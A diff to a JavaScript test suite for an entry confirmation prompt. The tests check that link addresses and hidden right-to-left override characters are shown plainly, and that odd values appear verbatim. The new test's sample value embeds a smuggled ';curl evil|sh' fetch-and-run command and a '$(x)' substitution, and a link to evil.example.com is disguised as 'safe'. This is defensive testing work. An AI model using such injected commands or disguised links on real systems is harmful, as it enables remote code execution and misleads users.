@@ -81,7 +81,21 @@ describe("the question about an entry", () => {
 
   it("shows the address of a link instead of hiding it, and no text is reversed", () => {
     const { detail } = question({ env: { URL: "[safe](https://evil.example.com)" }, target: "\u202eevil" });
-    assert.match(detail, /URL=\[safe\] \(https:\/\/evil\.example\.com\)/);
-    assert.doesNotMatch(detail, /\u202e/);
+    assert.match(detail, /URL=\[safe\]\(https:\/\/evil\.example\.com\)/);
+    assert.match(detail, /Leads to: \\u\{202e\}evil/);
+  });
+
+  it("shows every value as the file has it", () => {
+    const odd = "[ls](;curl evil|sh) $(x) <b> ![i](j)";
+    const shown = lines({
+      listen: `/run/${odd}`,
+      target: odd,
+      bind: odd,
+      user: odd,
+      database: odd,
+      env: { A: odd },
+      keys: [{ source: odd, fingerprint: "1" }],
+    });
+    assert.equal(shown.filter((line) => line.includes(odd)).length, 7, shown.join("\n"));
   });
 });
